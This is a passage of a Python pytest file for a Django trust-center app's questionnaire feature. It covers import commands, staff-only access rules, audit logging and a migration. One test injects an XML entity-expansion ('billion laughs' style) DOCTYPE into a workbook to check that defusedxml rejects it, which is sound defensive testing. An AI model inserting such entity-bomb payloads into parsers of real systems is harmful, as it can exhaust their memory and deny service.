    infrastructure = [[c.value for c in row] for row in workbook["Infrastructure"].iter_rows()]
    assert infrastructure[0][3:] == CLI_COLUMNS
    assert infrastructure[2][1] == "Do you encrypt data at rest?" and infrastructure[2][3].startswith("Yes")
    call_command("answer_questionnaire", str(source), "--out", str(out), "--sheet", "Infrastructure")
    assert openpyxl.load_workbook(out).sheetnames == ["Infrastructure"]
    csv_out = tmp_path / "out.csv"
    call_command("answer_questionnaire", str(source), "--out", str(csv_out))
    rows = list(csv.reader(io.StringIO(csv_out.read_text("utf-8-sig"))))
    assert rows[0][0] == "Sheet" and {r[0] for r in rows[1:]} == {"Application", "Infrastructure"}


def test_the_command_reports_unreadable_files(answer_library, tmp_path):
    source = tmp_path / "in.xlsx"
    source.write_bytes(_encrypted_workbook())
    with pytest.raises(CommandError, match="encrypted with a password"):
        call_command("answer_questionnaire", str(source), "--out", str(tmp_path / "o.xlsx"))
    with pytest.raises(CommandError, match="must end in .csv or .xlsx"):
        call_command("answer_questionnaire", str(source), "--out", str(tmp_path / "o.pdf"))
    with pytest.raises(CommandError, match="No such file"):
        call_command("answer_questionnaire", str(tmp_path / "missing.csv"), "--out", str(tmp_path / "o.csv"))


# --- Permissions -------------------------------------------------------------------------

CAST = ["anonymous", "prospect", "sales", "security_admin"]


def _user(request, who):
    return None if who == "anonymous" else request.getfixturevalue(who)


@pytest.mark.parametrize("who", CAST)
def test_every_questionnaire_page_is_for_sales_and_security_staff_only(answer_library, client_for, sales, request, who):
    owner_client = client_for(sales)
    questionnaire = import_vendor_sheet(owner_client)
    row = _question(questionnaire, "Do you encrypt")
    owner_client.logout()
    client = client_for(_user(request, who))
    base = f"/staff/questionnaires/{questionnaire.pk}"
    gets = ["/staff/questionnaires/", f"{base}/review/", f"{base}/export.xlsx", f"{base}/export.csv"]
    posts = [
        (f"{base}/rows/{row.pk}/", {"action": "na"}),
        (f"{base}/accept-many/", {"min_confidence": "101"}),
    ]
    for path in gets:
        response = client.get(path)
        expected = {"anonymous": 302, "prospect": 403}.get(who, 200)
        assert response.status_code == expected, (path, who)
    for path, data in posts:
        response = client.post(path, data)
        expected = {"anonymous": 302, "prospect": 403}.get(who, 302)
        assert response.status_code == expected, (path, who)
    response = client.post("/staff/questionnaires/new/", {"file": _named(workbook_file(), "n.xlsx")})
    assert response.status_code == {"anonymous": 302, "prospect": 403}.get(who, 302)
    row.refresh_from_db()
    # A member of staff who did not upload it works on the same questionnaire (team work).
    assert (row.status == RowStatus.NA) == (who in ("sales", "security_admin"))


def test_wrong_methods_unknown_ids_and_rows_of_another_questionnaire(answer_library, client_for, sales):
    client = client_for(sales)
    first = import_vendor_sheet(client)
    second = import_vendor_sheet(client)
    row_of_first = _question(first, "Do you encrypt")
    assert (
        client.post(f"/staff/questionnaires/{second.pk}/rows/{row_of_first.pk}/", {"action": "na"}).status_code == 404
    )
    assert client.get(f"/staff/questionnaires/{first.pk}/rows/{row_of_first.pk}/").status_code == 405
    assert client.post(f"/staff/questionnaires/{first.pk}/progress/").status_code == 405
    assert client.get("/staff/questionnaires/new/").status_code == 405
    assert client.get(f"/staff/questionnaires/{first.pk}/delete/").status_code == 405
    assert client.get("/staff/questionnaires/999999/review/").status_code == 404
    section = first.rows.filter(kind=RowKind.SECTION).first()
    assert client.post(f"/staff/questionnaires/{first.pk}/rows/{section.pk}/", {"action": "na"}).status_code == 404
    assert client.post(f"/staff/questionnaires/{first.pk}/delete/").status_code == 302
    assert not Questionnaire.objects.filter(pk=first.pk).exists()
    assert not QuestionnaireRow.objects.filter(questionnaire_id=first.pk).exists()


def test_workbook_xml_is_parsed_through_defusedxml():
    # openpyxl switches to defusedxml when it is installed; it is a runtime requirement.
    from openpyxl.xml import DEFUSEDXML

    assert DEFUSEDXML is True


def test_an_entity_expansion_bomb_in_a_workbook_is_refused():
    source = zipfile.ZipFile(io.BytesIO(workbook_file()))
    out = io.BytesIO()
    doctype = '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
    with zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "xl/workbook.xml":
                declaration_end = data.index(b"?>") + 2 if data.startswith(b"<?xml") else 0
                data = data[:declaration_end] + doctype.encode() + data[declaration_end:]
            target.writestr(info, data)
    with pytest.raises(ImportError_, match="This workbook could not be read"):
        read_questionnaire(out.getvalue(), "bomb.xlsx")
    # It is defusedxml that refuses the entity declarations, not a parse accident.
    from defusedxml import EntitiesForbidden

    with pytest.raises(ValueError) as excinfo:
        openpyxl.load_workbook(io.BytesIO(out.getvalue()), read_only=True)
    assert isinstance(excinfo.value.__context__, EntitiesForbidden)


def test_uploads_exports_approvals_and_deletions_are_in_the_audit_log(answer_library, client_for, security_admin):
    from trustcenter.audit.models import AuditEvent

    client = client_for(security_admin)
    questionnaire = import_vendor_sheet(client)
    client.get(f"/staff/questionnaires/{questionnaire.pk}/export.csv")
    answer = Answer.objects.get(seed_key="backups")
    client.post(f"/staff/answers/{answer.pk}/approve/")
    client.post(f"/staff/questionnaires/{questionnaire.pk}/delete/")
    events = list(AuditEvent.objects.filter(kind__startswith=("questionnaire.")).order_by("seq"))
    events += list(AuditEvent.objects.filter(kind="answer.approved"))
    kinds = [(e.kind, e.subject, e.actor_id) for e in events]
    subject = f"questionnaire:{questionnaire.pk}"
    assert kinds == [
        ("questionnaire.uploaded", subject, security_admin.pk),
        ("questionnaire.completed", subject, None),  # by whichever step answered the last question
        ("questionnaire.exported", subject, security_admin.pk),
        ("questionnaire.deleted", subject, security_admin.pk),
        ("answer.approved", f"answer:{answer.pk}", security_admin.pk),
    ]
    assert events[2].data == {"name": "northwind.xlsx", "format": "csv"}


@pytest.mark.django_db(transaction=True)
def test_questionnaires_answered_before_several_sheets_keep_their_sheet_through_the_migration():
    before, after = ("questionnaires", "0006_expert_reason_no_value"), ("questionnaires", "0007_questionnaire_sheets")
    executor = MigrationExecutor(connection)
    executor.migrate([before])
    old = executor.loader.project_state([before]).apps.get_model("questionnaires", "Questionnaire")
    kept = old.objects.create(
        name="old.xlsx", file_kind="xlsx", status="ready", sheet_name="Questions",
        header_row=2, question_column=1, columns=["Ref", "Question", "Answer"],
    )  # fmt: skip
    choosing = old.objects.create(name="new.xlsx", file_kind="xlsx", status="choose")
    executor = MigrationExecutor(connection)
    executor.migrate([after])
    migrated = Questionnaire.objects.get(pk=kept.pk)
    assert migrated.sheets == [
        {"name": "Questions", "columns": ["Ref", "Question", "Answer"], "header_row": 2, "question_column": 1}
    ]
    assert Questionnaire.objects.get(pk=choosing.pk).sheets == []
